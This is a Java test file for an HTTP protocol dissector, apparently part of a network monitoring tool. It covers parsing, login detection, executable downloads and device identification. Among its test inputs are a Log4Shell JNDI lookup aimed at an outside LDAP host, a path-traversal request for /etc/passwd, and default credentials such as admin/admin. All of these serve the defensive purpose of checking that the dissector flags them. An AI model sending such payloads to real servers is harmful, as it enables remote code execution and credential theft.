package io.otus.dissect.http;

import static io.otus.testkit.Row.row;
import static org.assertj.core.api.Assertions.assertThat;

import io.otus.core.bytes.ByteView;
import io.otus.core.bytes.Octets;
import io.otus.core.event.Attribute;
import io.otus.core.event.Outcome;
import io.otus.core.event.PointRange;
import io.otus.core.event.SessionSeen;
import io.otus.core.event.Trust;
import io.otus.core.spi.Carrier;
import io.otus.core.spi.Dissector;
import io.otus.core.spi.DissectorProvider;
import io.otus.core.spi.Request;
import io.otus.core.spi.Response;
import io.otus.testkit.DissectorContract;
import io.otus.testkit.DissectorHarness;
import io.otus.testkit.FieldTable;
import io.otus.testkit.Row;
import io.otus.testkit.Seen;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;

/** Messages are those of RFC 9110 and RFC 9112, RFC 7617 §2, and of devices as their manuals show them. */
class HttpDissectorTest extends DissectorContract {
    /** The last message of NTLM, [MS-NLMP] §2.2.1.3, of PLANT\\eve at ENG-PC, without proofs. */
    private static final String NTLM =
            "TlRMTVNTUAADAAAAAAAAAEAAAAAAAAAAQAAAAAoACgBAAAAABgAGAEoAAAAMAAwAUAAAAAAAAABAAAAAAQAA"
                    + "AFAATABBAE4AVABlAHYAZQBFAE4ARwAtAFAAQwA=";

    private static final String GET = "GET / HTTP/1.1\nHost: plc1\n\n";

    @Override
    protected DissectorProvider provider() {
        return new HttpProvider();
    }

    static Seen asks(long transaction, Method method) {
        return new Seen.Request(Request.confirmed(transaction, method.service(), "", List.of()));
    }

    static Seen asksToLogIn(long transaction) {
        return new Seen.Request(Request.confirmed(transaction, Method.LOGIN, "", List.of()));
    }

    private static Seen answers(long transaction, Method method) {
        return new Seen.Response(new Response(transaction, method.service(), "", Outcome.OK, List.of()));
    }

    private static Seen claim(Attribute attribute, String value) {
        return new Seen.Claim(true, "", attribute, value, Trust.SESSION);
    }

    private static Seen described(Attribute attribute, String value) {
        return new Seen.Claim(true, "", attribute, value, Trust.MANAGEMENT);
    }

    private static Seen request(String method, String target, String host) {
        return new Seen.Message(new HttpEvent.Request(method, target, host, "", "", -1, ""));
    }

    private static Seen response(int status, String reason, String type, long length, String title) {
        return new Seen.Message(new HttpEvent.Response(status, reason, "", type, length, "", "", title));
    }

    private static Seen proxied(String host) {
        return new Seen.Session(true, "", SessionSeen.PROXY_REQUEST, host);
    }

    private static Seen fetched(String path) {
        return new Seen.Session(false, "", SessionSeen.PROGRAM_FETCHED, path);
    }

    private static Seen part(String name, int length) {
        return new Seen.Message(new HttpEvent.Body(name, length));
    }

    @Override
    protected Stream<Row> rows() {
        return Stream.of(messages(), HttpSizeRows.rows(), HttpContentRows.rows(), bodies(), logins(), identity())
                .flatMap(each -> each);
    }

    private static Stream<Row> messages() {
        return Stream.of(
                row("the example of RFC 9112 §3, and its answer")
                        .clientSays("""
                            GET /hello.txt HTTP/1.1
                            User-Agent: curl/7.64.1
                            Host: www.example.com

                            """)
                        .serverSays("""
                            HTTP/1.1 200 OK
                            Server: Apache
                            Content-Length: 14
                            Content-Type: text/plain

                            Hello World!
                            """)
                        .sees(
                                new Seen.Message(new HttpEvent.Request(
                                        "GET", "/hello.txt", "www.example.com", "curl/7.64.1", "", -1, "")),
                                asks(1, Method.GET),
                                claim(Attribute.SERVICE, "curl/7.64.1"),
                                new Seen.Message(
                                        new HttpEvent.Response(200, "OK", "Apache", "text/plain", 14, "", "", "")),
                                answers(1, Method.GET),
                                claim(Attribute.SERVICE, "Apache")),
                row("two requests before their answers, in order, RFC 9112 §9.3.2")
                        .clientSays(GET + "HEAD /a HTTP/1.1\nHost: plc1\n\n")
                        .serverSays("""
                            HTTP/1.1 204 No Content

                            HTTP/1.1 404 Not Found
                            Content-Length: 9

                            """)
                        .sees(
                                asks(1, Method.GET),
                                asks(2, Method.HEAD),
                                answers(1, Method.GET),
                                new Seen.Response(new Response(
                                        2, Method.HEAD.service(), "", Outcome.error(404, "not_found"), List.of()))),
                row("an interim answer answers nothing, RFC 9110 §15.2")
                        .clientSays("""
                            POST /a HTTP/1.1
                            Content-Length: 2
                            Expect: 100-continue

                            ab\
                            """)
                        .serverSays("""
                            HTTP/1.1 100 Continue

                            HTTP/1.1 201 Created
                            Content-Length: 0

                            """)
                        .sees(asks(1, Method.POST), answers(1, Method.POST)),
                row("a file that is put there is a point, without a blank")
                        .clientSays("""
                            PUT /user files/x.bin HTTP/1.1
                            Content-Length: 2

                            ab\
                            """)
                        .sees(new Seen.Request(Request.confirmed(
                                1, Method.PUT.service(), "", List.of(PointRange.named("/user%20files/x.bin"))))),
                row("an answer that names another place, RFC 9110 §10.2.2")
                        .serverSays("""
                            HTTP/1.1 301 Moved
                            Location: /home
                            Content-Length: 0

                            """)
                        .sees(new Seen.Message(new HttpEvent.Response(301, "Moved", "", "", 0, "", "/home", ""))),
                row("an answer whose request was not seen answers nothing")
                        .clientSays(GET)
                        .serverSays("""
                            HTTP/1.0 304 Not Modified

                            HTTP/1.0 304 Not Modified

                            """)
                        .sees(asks(1, Method.GET), answers(1, Method.GET)),
                row("a lookup that a program which logs it would carry out, CVE-2021-44228")
                        .clientSays("""
                            GET / HTTP/1.1
                            User-Agent: ${${lower:j}ndi:ldap://203.0.113.5/a}

                            """)
                        .sees(asks(1, Method.GET), new Seen.Malformed(HttpAnomaly.LOGGED_LOOKUP, 28)),
                row("a path that climbs out of what the server offers")
                        .clientSays("""
                            GET /cgi-bin/../../../etc/passwd HTTP/1.1

                            """)
                        .sees(asks(1, Method.GET), new Seen.Malformed(HttpAnomaly.CLIMBING_PATH, 4)),
                row("hosts that a proxy is asked for, each told once, RFC 9112 §3.2.2 and §3.2.3")
                        .clientSays("""
                            GET http://user@WWW.example.com/a?b=c://d HTTP/1.1

                            GET http://www.example.com/b HTTP/1.1

                            GET /?http://x/ HTTP/1.1

                            GET http://no host/ HTTP/1.1

                            GET /redirect/https://other.example/x HTTP/1.1

                            CONNECT cdn.example:443 HTTP/1.1

                            """)
                        .sees(proxied("www.example.com"), proxied("cdn.example:443")),
                row("lengths that contradict each other, RFC 9112 §6.3")
                        .clientSays("""
                            GET / HTTP/1.1
                            Content-Length: 1
                            Content-Length: 2

                            """)
                        .sees(new Seen.Malformed(HttpAnomaly.CONTENT_LENGTH, 32)),
                row("a tunnel through a proxy, with a TLS record inside")
                        .clientSays("""
                            CONNECT www.example.org:443 HTTP/1.1
                            Host: www.example.org:443

                            """)
                        .serverSays("""
                            HTTP/1.1 200 Connection established

                            """)
                        .client("15 0303 0002 0100")
                        .sees(
                                request("CONNECT", "www.example.org:443", "www.example.org:443"),
                                response(200, "Connection established", "", -1, ""),
                                part("tunnel", 7),
                                new Seen.Child(Octets.ofHex("15 0303 0002 0100"))));
    }

    private static Stream<Row> bodies() {
        return Stream.of(
                row("chunks with a trailer, RFC 9112 §7.1")
                        .serverSays("""
                            HTTP/1.1 200 OK
                            Content-Type: text/html
                            Transfer-Encoding: chunked

                            13;ext=1
                            <title>Press 4</tit
                            7
                            le> end
                            0
                            Expires: never

                            """)
                        .serverSays("""
                            HTTP/1.1 304 Not Modified

                            """)
                        .sees(
                                response(200, "OK", "text/html", -1, ""),
                                part("chunk_size", 10),
                                part("body", 21),
                                part("chunk_size", 3),
                                part("body", 9),
                                part("chunk_size", 3),
                                part("trailer", 16),
                                part("trailer", 2),
                                claim(Attribute.DESCRIPTION, "Press 4"),
                                response(304, "Not Modified", "", -1, "")),
                row("a chunk whose size has zeros before it, and an empty line behind the body, RFC 9112 §2.2")
                        .clientSays(GET)
                        .serverSays("HTTP/1.1 200 OK\nTransfer-Encoding: chunked\n\n000000002\nab\n0\n\n")
                        .clientSays("\n" + GET)
                        .sees(
                                request("GET", "/", "plc1"),
                                response(200, "OK", "", -1, ""),
                                part("chunk_size", 11),
                                part("body", 4),
                                part("chunk_size", 3),
                                part("trailer", 2),
                                part("blank", 2),
                                request("GET", "/", "plc1")),
                row("a chunk without a size").serverSays("""
                    HTTP/1.1 200 OK
                    Transfer-Encoding: chunked

                    xyz
                    """).sees(new Seen.Malformed(HttpAnomaly.CHUNK_SIZE, 0)),
                row("a body up to the end of the connection, HTTP/1.0")
                        .serverSays("""
                            HTTP/1.0 200 OK
                            Content-Type: text/html

                            <html><title>Valve
                             house</title>
                            """)
                        .sees(
                                response(200, "OK", "text/html", -1, ""),
                                part("body", 20),
                                part("body", 16),
                                claim(Attribute.DESCRIPTION, "Valve house")),
                row("a long body in pieces")
                        .serverSays("HTTP/1.1 200 OK\nContent-Length: 16390\n\n" + "a".repeat(16_390))
                        .sees(
                                response(200, "OK", "", 16_390, ""),
                                part("body", 4_096),
                                part("body", 4_096),
                                part("body", 4_096),
                                part("body", 4_096),
                                part("body", 6),
                                HttpContentRows.given(
                                        "ac675dd52effd020ac43cfd88547cac1fe284259608e474f5dc65197009f3967",
                                        16_390,
                                        "")));
    }

    private static Stream<Row> logins() {
        return Stream.of(
                row("Basic, with the user and password of delivery; told once and not with each request, which it is a"
                                + " secret of")
                        .clientSays("""
                            GET / HTTP/1.1
                            Authorization: Basic VVNFUjpVU0VS

                            GET /a HTTP/1.1
                            Authorization: Basic VVNFUjpVU0VS

                            """)
                        .serverSays("""
                            HTTP/1.1 401 Unauthorized
                            WWW-Authenticate: Basic realm="PLC"
                            Content-Length: 0

                            """)
                        .sees(
                                asksToLogIn(1),
                                new Seen.Secret(37, 12),
                                new Seen.Session(true, "", SessionSeen.DEFAULT_LOGIN, "USER"),
                                asks(2, Method.GET),
                                new Seen.Secret(38, 12),
                                new Seen.Response(new Response(
                                        1, Method.LOGIN, "", Outcome.error(401, "unauthorized"), List.of())),
                                claim(Attribute.DESCRIPTION, "PLC")),
                row("programs are fetched, as the beginning, the type or the name says")
                        .clientSays("GET /a?b=1 HTTP/1.1\n\nGET /b HTTP/1.1\n\nGET /c.PS1 HTTP/1.1\n\n")
                        .clientSays("GET /d HTTP/1.1\n\nGET /e HTTP/1.1\n\n")
                        .serverSays("HTTP/1.1 200 OK\nContent-Length: 10\n\n#!/bin/sh\r")
                        .serverSays("HTTP/1.1 200 OK\nContent-Type: application/x-msdownload\nContent-Length: 2\n\nMZ")
                        .serverSays("HTTP/1.1 200 OK\nContent-Length: 2\n\nls")
                        .serverSays("HTTP/1.1 200 OK\nTransfer-Encoding: chunked\n\na\n\177ELF\1\1\001xyz\n0\n\n")
                        .serverSays("HTTP/1.1 200 OK\nContent-Length: 20000\n\n")
                        .server("7F454C46020101" + "00".repeat(19_993))
                        .sees(
                                fetched("/a"),
                                HttpContentRows.given(
                                        "b632cc5c5670ed93aa970980d95174696fd6059a2c4e5c6a303ccf2482e0ce87", 10, "/a"),
                                fetched("/b"),
                                HttpContentRows.given(
                                        "9b8db510ef42b8ed54a3712636fda55a4f8cfcd5493e20b74ab00cd4f3979f2d", 2, "/b"),
                                fetched("/c.PS1"),
                                HttpContentRows.given(
                                        "c7b68ac37f364473e922936708e7f43c293dd07b295171566c07ff5fe024fab9",
                                        2,
                                        "/c.PS1"),
                                fetched("/d"),
                                HttpContentRows.image(
                                        "afbb5003877b6ecf1aab44c2b7cbf69dbe3812c244f917af459686a7f21353e2", 10, "/d"),
                                fetched("/e"),
                                HttpContentRows.image(
                                        "d44b764e4aa4bc42b917e582f089f6083218df56345526633c0f3f4248f90ee8",
                                        20000,
                                        "/e")),
                row("a program whose chunks are shorter than its header")
                        .clientSays("GET /a HTTP/1.1\n\nGET /b HTTP/1.1\n\n")
                        .serverSays("HTTP/1.1 200 OK\nTransfer-Encoding: chunked\n\n2\nMZ\n3A\n")
                        .server("00".repeat(58) + "0D0A")
                        .serverSays("4\n@\0\0\0\n4\nPE\0\0\n0\n\n")
                        .serverSays("HTTP/1.1 200 OK\nTransfer-Encoding: chunked\n\n1\n#\n9\n!/bin/sh\r\n0\n\n")
                        .sees(
                                fetched("/a"),
                                HttpContentRows.image(
                                        "a62041514d88e5f81ab7810f0a637eda55e0e552e84636fef50665fea71cf31d", 68, "/a"),
                                fetched("/b"),
                                HttpContentRows.given(
                                        "b632cc5c5670ed93aa970980d95174696fd6059a2c4e5c6a303ccf2482e0ce87", 10, "/b")),
                row("no programs: what one says that a server runs by its name")
                        .clientSays("GET /a.exe?b=1 HTTP/1.1\n\nGET /c.sh HTTP/1.1\n\nGET /d.exe HTTP/1.1\n\n")
                        .clientSays("POST /e.exe HTTP/1.1\nContent-Length: 1\n\nx")
                        .serverSays("HTTP/1.1 200 OK\nContent-Type: text/plain\nContent-Length: 2\n\n17")
                        .serverSays("HTTP/1.1 200 OK\nContent-Type: application/json\nContent-Length: 2\n\n{}")
                        .serverSays("HTTP/1.1 200 OK\nContent-Length: 0\n\n")
                        .serverSays("HTTP/1.1 200 OK\nContent-Length: 2\n\nok")
                        .clientSays("GET /f.exe HTTP/1.1\n\n")
                        .serverSays(
                                "HTTP/1.1 200 OK\nContent-Type: application/octet-stream; a=b\nContent-Length: 1\n\nx")
                        .sees(
                                HttpContentRows.given(
                                        "4523540f1504cd17100c4835e85b7eefd49911580f8efff0599a8f283be6b9e3",
                                        2,
                                        "/a.exe"),
                                HttpContentRows.given(
                                        "44136fa355b3678a1146ad16f7e8649e94fb4fc21fe77e8310c060f61caaff8a", 2, "/c.sh"),
                                HttpContentRows.given(
                                        "2689367b205c16ce32ed4200942b8b8b1e262dfc70d9bc9fbc77c49699a4f1df",
                                        2,
                                        "/e.exe"),
                                fetched("/f.exe"),
                                HttpContentRows.given(
                                        "2d711642b726b04401627ca9fbac32f5c8530fb1903cc4db02258717921a4881",
                                        1,
                                        "/f.exe")),
                row("no programs: what is refused, only asked about, a page, or one further on")
                        .clientSays("GET /a.exe HTTP/1.1\n\nHEAD /b.exe HTTP/1.1\n\nGET /c.exe HTTP/1.1\n\n")
                        .clientSays("GET /d.js HTTP/1.1\n\nGET /e HTTP/1.1\n\nGET /f.exe HTTP/1.1\n\n")
                        .serverSays("HTTP/1.1 404 Not Found\nContent-Length: 10\n\n#!/bin/sh\r")
                        .serverSays("HTTP/1.1 200 OK\nContent-Length: 10\n\n")
                        .serverSays("HTTP/1.1 200 OK\nContent-Type: text/html\nContent-Length: 2\n\nno")
                        .serverSays("HTTP/1.1 200 OK\nContent-Length: 2\n\nf=")
                        .serverSays("HTTP/1.1 200 OK\nContent-Length: 17000\n\n")
                        .server("00".repeat(8_192) + "7F454C46020101" + "00".repeat(8_801))
                        .serverSays("HTTP/1.1 206 Partial Content\nContent-Length: 2\n\nMZ")
                        .sees(
                                HttpContentRows.given(
                                        "9390298f3fb0c5b160498935d79cb139aef28e1c47358b4bbba61862b9c26e59",
                                        2,
                                        "/c.exe"),
                                HttpContentRows.given(
                                        "c2a8fba487f65db9909fa221d4d05bf7d8ee4119f26ec5960953ad30e1fcfc80", 2, "/d.js"),
                                HttpContentRows.given(
                                        "b9b7cea07e2a2f81dab75af17f6148c7f2bdd3a075871af6757bbd42ce0e8483",
                                        17000,
                                        "/e"),
                                fetched("/f.exe")),
                row("a login that was refused, and another attempt by the same name")
                        .clientSays("GET / HTTP/1.1\nAuthorization: Digest username=\"op\"\n\n")
                        .serverSays("HTTP/1.1 401 Unauthorized\nContent-Length: 0\n\n")
                        .clientSays("GET / HTTP/1.1\nAuthorization: Digest username=\"op\"\n\n")
                        .serverSays("HTTP/1.1 200 OK\nContent-Length: 0\n\n")
                        .clientSays("GET / HTTP/1.1\nAuthorization: Digest username=\"op\"\n\n")
                        .sees(
                                asksToLogIn(1),
                                new Seen.Response(new Response(
                                        1, Method.LOGIN, "", Outcome.error(401, "unauthorized"), List.of())),
                                asksToLogIn(2),
                                new Seen.Response(new Response(2, Method.LOGIN, "", Outcome.OK, List.of())),
                                asks(3, Method.GET)),
                row("the first message of NTLM signs nobody in")
                        .clientSays("GET / HTTP/1.1\nAuthorization: NTLM "
                                + "TlRMTVNTUAABAAAAB4IIogAAAAAAAAAAAAAAAAAAAAAKAGFKAAAADw==\n\n")
                        .sees(asks(1, Method.GET)),
                row("Basic for a proxy, over two lines")
                        .clientSays(
                                "GET http://a/ HTTP/1.1\nProxy-Authorization: Basic\n QWxhZGRpbjpvcGVuIHNlc2FtZQ==\n\n")
                        .sees(
                                asksToLogIn(1),
                                proxied("a"),
                                new Seen.Secret(53, 28),
                                new Seen.Session(true, "", SessionSeen.CLEARTEXT_LOGIN, "Aladdin")),
                row("a form with an old and a new password; the number of a pin is none")
                        .clientSays("GET /a?pin=13&pwd=x&newpassword=yy HTTP/1.1\n\n")
                        .sees(
                                new Seen.Message(new HttpEvent.Request(
                                        "GET", "/a?pin=13&pwd=*&newpassword=*", "", "", "", -1, "")),
                                asksToLogIn(1),
                                new Seen.Secret(18, 1),
                                new Seen.Secret(32, 2),
                                new Seen.Session(true, "", SessionSeen.CLEARTEXT_LOGIN, "")),
                row("Basic, the example of RFC 7617 §2")
                        .clientSays("""
                            GET / HTTP/1.1
                            Authorization: Basic QWxhZGRpbjpvcGVuIHNlc2FtZQ==

                            """)
                        .sees(new Seen.Session(true, "", SessionSeen.CLEARTEXT_LOGIN, "Aladdin")),
                row("Digest names the user and hides the password, RFC 7616 §3.9.1")
                        .clientSays("""
                            GET /dir/index.html HTTP/1.1
                            Authorization: Digest username="Mufasa", realm="r"

                            """)
                        .sees(asksToLogIn(1), new Seen.Session(true, "", SessionSeen.LOGIN, "Mufasa")),
                row("a login of Windows that names user and computer, RFC 4559 §4")
                        .clientSays("""
                            GET / HTTP/1.1
                            Host: plc1
                            Authorization: NTLM %s

                            """.formatted(NTLM))
                        .sees(
                                asksToLogIn(1),
                                claim(Attribute.NAME, "ENG-PC"),
                                new Seen.Session(true, "", SessionSeen.LOGIN, "PLANT\\eve")),
                row("a form whose fields are named user and password")
                        .clientSays("""
                            POST /login HTTP/1.1
                            Content-Type: application/x-www-form-urlencoded
                            Content-Length: 31

                            user=op%20one&password=s3cret+x\
                            """)
                        .sees(
                                asksToLogIn(1),
                                new Seen.Secret(116, 8),
                                new Seen.Session(true, "", SessionSeen.CLEARTEXT_LOGIN, "op one")),
                row("a form in the target, whose password is not shown")
                        .clientSays("""
                            GET /login.cgi?username=admin&pwd=admin HTTP/1.1

                            """)
                        .sees(
                                new Seen.Message(new HttpEvent.Request(
                                        "GET", "/login.cgi?username=admin&pwd=*", "", "", "", -1, "admin")),
                                asksToLogIn(1),
                                new Seen.Secret(34, 5),
                                new Seen.Session(true, "", SessionSeen.DEFAULT_LOGIN, "admin")));
    }

    private static Stream<Row> identity() {
        String description = """
            <root xmlns="urn:schemas-upnp-org:device-1-0"><device><friendlyName>Hall &amp; yard</friendlyName>
            <manufacturer>ACME</manufacturer><modelName>Cam 7</modelName><modelNumber>C-700</modelNumber>
            <serialNumber>0815</serialNumber></device></root>
            """;
        String onvif =
                "<s:Body><tds:GetDeviceInformationResponse><tds:Manufacturer>ACME</tds:Manufacturer><tds:Model>X1</tds:Model>"
                        + "<tds:FirmwareVersion>2.1</tds:FirmwareVersion></tds:GetDeviceInformationResponse></s:Body>";
        return Stream.of(
                row("a title that is the code of a product is its model too")
                        .clientSays(GET)
                        .serverSays(page("Server: WEB/V2.1\n", "<html><TITLE lang=en>TM221CE40R</TITLE></html>"))
                        .sees(
                                claim(Attribute.SERVICE, "WEB/V2.1"),
                                claim(Attribute.DESCRIPTION, "TM221CE40R"),
                                claim(Attribute.MODEL, "TM221CE40R")),
                row("a browser names the system below it; a proxy's answer says nothing of the proxy")
                        .clientSays("""
                            GET http://a.example/ HTTP/1.1
                            User-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64)

                            """)
                        .serverSays(page("Server: nginx\n", "<title>A</title>"))
                        .sees(
                                claim(Attribute.SERVICE, "Mozilla/5.0 (Windows NT 10.0; Win64; x64)"),
                                claim(Attribute.OS, "Windows NT 10.0")),
                row("a device description of UPnP, UPnP Device Architecture 2.0 §2.3")
                        .serverSays(page("Server: Linux/4.9 UPnP/1.0 cam/1.0\n", description))
                        .sees(
                                claim(Attribute.SERVICE, "Linux/4.9 UPnP/1.0 cam/1.0"),
                                claim(Attribute.OS, "Linux/4.9"),
                                described(Attribute.VENDOR, "ACME"),
                                described(Attribute.MODEL, "Cam 7"),
                                described(Attribute.ORDER_NUMBER, "C-700"),
                                described(Attribute.SERIAL, "0815"),
                                described(Attribute.NAME, "Hall & yard")),
                row("device information of ONVIF")
                        .serverSays(page("", onvif))
                        .sees(
                                described(Attribute.VENDOR, "ACME"),
                                described(Attribute.MODEL, "X1"),
                                described(Attribute.FIRMWARE, "2.1")),
                row("a page that was not found tells nothing")
                        .serverSays("""
                            HTTP/1.1 404 Not Found
                            Content-Type: text/html
                            Content-Length: 16

                            <title>A</title>\
                            """)
                        .sees(response(404, "Not Found", "text/html", 16, "A")));
    }

    private static String page(String fields, String body) {
        String ended = body.replace("\n", "\r\n");
        return "HTTP/1.1 200 OK\nContent-Type: text/xml; html\n" + fields + "Content-Length: " + ended.length() + "\n\n"
                + body;
    }

    @Test
    void aBodyWithoutAnEndIsNotReadAgainWithEachOfItsLines() {
        HttpSide side = new HttpSide();
        side.body(BodyLength.UNTIL_CLOSE, true, null);
        ByteView line = ByteView.of("<b></TITLE>\r\n".getBytes(StandardCharsets.US_ASCII));
        int looks = 0;
        for (int i = 0; i < 1_000; i++) {
            looks += side.isWorthALook(line) ? 1 : 0;
        }
        assertThat(looks).isEqualTo(HttpSide.MAX_LOOKS);
        assertThat(side.isWorthALook(line.from(8))).isFalse();
    }

    @Test
    void otherProtocolsWithSuchHeadsAreNot() {
        DissectorHarness harness = new DissectorHarness(new HttpDissector(new Inflaters()), Carrier.STREAM);
        for (String other : List.of(
                "OPTIONS rtsp://cam/ RTSP/1.0\r\n",
                "OPTIONS sip:a@b SIP/2.0\r\n",
                "GET \u0000\u0001\u0002",
                "GET /chat HTTP/1.1\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n\r\n")) {
            ByteView bytes = ByteView.of(other.getBytes(StandardCharsets.ISO_8859_1));
            assertThat(new HttpDissector(new Inflaters()).frameLength(bytes, harness))
                    .as(other)
                    .isEqualTo(Dissector.NOT_MINE);
        }
    }

    @Test
    void theTableOfFieldsIsComplete() {
        assertThat(FieldTable.of("http")).isEqualTo(fieldsWritten());
    }
}
